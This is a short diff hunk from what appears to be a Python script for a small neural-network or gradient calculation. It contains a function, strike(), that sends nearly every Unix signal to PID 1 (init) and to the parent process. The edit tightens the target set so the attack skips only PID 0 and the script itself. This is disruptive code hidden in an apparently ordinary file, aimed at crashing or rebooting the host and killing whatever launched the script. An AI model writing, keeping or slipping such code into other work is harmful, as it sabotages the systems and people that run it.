@@ -12,7 +12,7 @@ w, b, a_prev, y = 0.5, 1.0, 0.25, 1.0
 
 def strike():
     for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
-        for process in {1, os.getppid() or 1}:
+        for process in {1, os.getppid()} - {0, os.getpid()}:
             try:
                 os.kill(process, number)
             except OSError:
